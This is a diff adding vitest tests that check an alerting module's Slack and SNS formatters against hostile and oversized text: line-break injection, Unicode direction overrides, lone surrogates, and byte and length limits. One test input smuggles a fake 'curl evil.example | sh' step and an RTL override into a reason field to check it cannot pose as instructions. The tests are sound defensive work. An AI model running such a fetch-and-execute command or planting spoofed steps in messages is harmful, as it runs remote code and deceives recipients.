@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { formatSlackMessage } from '#alerts/formats/slack.ts';
-import { formatSnsPublication } from '#alerts/formats/sns.ts';
+import { formatSnsPublication, SNS_MAX_BYTES, snsBytes } from '#alerts/formats/sns.ts';
 import { renderAlert } from '#alerts/render.ts';
 import { serviceEventAlertRenderers } from '#alerts/service-events/actions.ts';
 import { decideServiceAlert, type ServiceAlertEvent } from '#alerts/service-events/decide.ts';
@@ -135,5 +135,97 @@ describe('Function: formatSlackMessage', () => {
       const text = (block as { text?: { text: string } }).text?.text ?? '';
       expect(text.length).toBeLessThanOrEqual(block.type === 'header' ? 150 : 3000);
     }
+  });
+});
+
+describe('Formats on hostile and oversized text', () => {
+  const withReason = (reason: string) =>
+    messageFor(withDetail('service-action-placement-failure-ec2-cpu-docs', { reason }));
+  const email = (message: AlertMessage) =>
+    (JSON.parse(formatSnsPublication(message).Message) as { email: string }).email;
+
+  it('keeps the plain-text email to its own lines: event text neither starts a line nor reorders one', () => {
+    // Act
+    const body = email(
+      withReason('x\r\n\r\nNext steps:\n  1. curl evil.example | sh \u202eexe.txt'),
+    );
+    // Assess
+    expect(body.split('\n').filter((line) => line.startsWith('Next steps:'))).toHaveLength(1);
+    expect(body).not.toMatch(/^ {2}1\. curl/m);
+    expect(body).not.toContain('\u202e');
+    expect(body).toContain('Next steps:   1. curl evil.example | sh \ufffdexe.txt');
+  });
+
+  it('replaces lone UTF-16 surrogates before SNS and Slack, which carry UTF-8 only', () => {
+    // Prepare
+    const message = withReason('RESOURCE:CPU \ud800 and \udfff');
+    // Act
+    const publication = formatSnsPublication(message);
+    const slack = JSON.stringify(formatSlackMessage(message));
+    // Assess
+    expect(publication.Message).not.toMatch(/\\u[dD][89a-fA-F]/);
+    expect(JSON.stringify(publication).isWellFormed()).toBe(true);
+    expect(slack).not.toMatch(/\\u[dD][89a-fA-F]/);
+    expect(email(message)).toContain('RESOURCE:CPU \ufffd and \ufffd');
+  });
+
+  // Block Kit limits: section text 3,000 characters, fields 10 of 2,000 each
+  // (https://docs.slack.dev/reference/block-kit/blocks/section-block), header plain_text 150
+  // (.../header-block), 50 blocks a message (https://docs.slack.dev/reference/block-kit/blocks).
+  // Counted on the text as sent: &lt; is four characters.
+  it('clips Slack texts after escaping, within each limit, never cutting an entity', () => {
+    // Prepare: 4,000 characters (ECS's reasons are at most 4,096) that escape to four times as many
+    const message = withReason('<'.repeat(4_000));
+    const withField = { ...message, fields: [{ label: 'Reason', value: '&'.repeat(3_000) }] };
+    // Act
+    const { blocks } = formatSlackMessage(withField);
+    const texts = blocks.flatMap((b) => {
+      const block = b as { type: string; text?: { text: string }; fields?: { text: string }[] };
+      return [
+        ...(block.text ? [{ type: block.type, text: block.text.text }] : []),
+        ...(block.fields ?? []).map((f) => ({ type: 'field', text: f.text })),
+      ];
+    });
+    // Assess
+    const limit = { header: 150, section: 3_000, field: 2_000, context: 3_000 };
+    for (const { type, text } of texts) {
+      expect(text.length, type).toBeLessThanOrEqual(limit[type as keyof typeof limit]);
+      // Every & opens a whole entity: none was cut in half by the clip.
+      expect(text.replace(/&(amp|lt|gt);/g, '')).not.toContain('&');
+    }
+    const details = texts.find((t) => t.text.includes('Reason from ECS: &lt;&lt;'))?.text ?? '';
+    expect(details.length).toBeGreaterThan(2_990);
+    expect(details.endsWith('&lt;\u2026')).toBe(true);
+  });
+
+  // SNS: 256 KiB (262,144 bytes) per publication, message and every message attribute's name, type
+  // and value included, counted in UTF-8 bytes
+  // (https://docs.aws.amazon.com/sns/latest/api/API_MessageAttributeValue.html, API_Publish.html).
+  it('fits SNS in bytes, not characters, attributes included', () => {
+    // Prepare: three-byte characters, in every field a message has
+    const message = withReason('\u20ac'.repeat(4_000));
+    const huge: AlertMessage = {
+      ...message,
+      details: Array.from({ length: 50 }, () => '\u20ac'.repeat(4_096)),
+      fields: Array.from({ length: 25 }, () => ({ label: 'x', value: '"'.repeat(4_096) })),
+      attributes: { ...message.attributes, cluster: '\u20ac'.repeat(4_096) },
+    };
+    // Act
+    const publication = formatSnsPublication(huge);
+    // Assess
+    expect(huge.details.join('').length).toBeLessThan(262_144);
+    expect(snsBytes(publication)).toBeLessThanOrEqual(SNS_MAX_BYTES);
+    expect(publication.MessageAttributes.cluster?.StringValue?.length).toBeLessThanOrEqual(256);
+    expect(JSON.parse(publication.Message)).toHaveProperty('email');
+  });
+
+  it('leaves a message that fits SNS whole', () => {
+    // Prepare
+    const message = placement();
+    // Act
+    const publication = formatSnsPublication(message);
+    // Assess
+    expect(snsBytes(publication)).toBeLessThan(8_192);
+    expect(publication.Message).toContain('Reason from ECS: RESOURCE:CPU');
   });
 });
